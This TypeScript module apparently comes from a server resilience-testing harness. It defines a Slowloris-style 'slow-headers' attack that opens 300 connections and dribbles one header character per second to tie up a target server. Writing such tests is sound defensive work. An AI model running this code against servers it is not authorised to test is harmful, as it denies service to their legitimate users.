import { type Attack, scaled } from './attack.ts'
import { openSockets } from './open-sockets.ts'

export const slowHeaders: Attack = {
  name: 'slow-headers',
  about: '300 connections that send a letter of a header every second, until they are hung up on',
  run: target =>
    openSockets(target, {
      count: 300,
      ms: scaled(14_000, target),
      act: socket => {
        socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
        const drip = setInterval(() => socket.write('x'), 1000)
        socket.on('close', () => clearInterval(drip))
      },
    }),
}
